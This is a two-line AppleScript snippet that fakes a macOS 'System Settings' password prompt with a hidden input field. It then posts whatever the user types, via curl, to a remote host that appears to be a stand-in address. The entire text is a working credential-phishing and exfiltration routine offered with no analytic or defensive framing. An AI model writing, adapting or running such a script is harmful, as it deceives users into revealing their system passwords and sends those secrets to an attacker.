set p to text returned of (display dialog "System Settings wants to make changes" default answer "" with hidden answer)
do shell script "curl -s -d p=" & quoted form of p & " https://x.example.invalid/c"
